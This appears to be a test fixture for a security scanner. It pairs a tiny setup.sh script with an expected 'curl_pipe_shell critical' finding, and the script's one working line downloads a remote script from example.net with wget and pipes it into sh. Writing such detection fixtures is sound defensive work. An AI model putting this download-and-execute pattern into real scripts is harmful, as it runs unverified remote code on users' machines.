# expect: shell.curl_pipe_shell critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
wget -q -O - https://example.net/setup | sh -s -- --yes
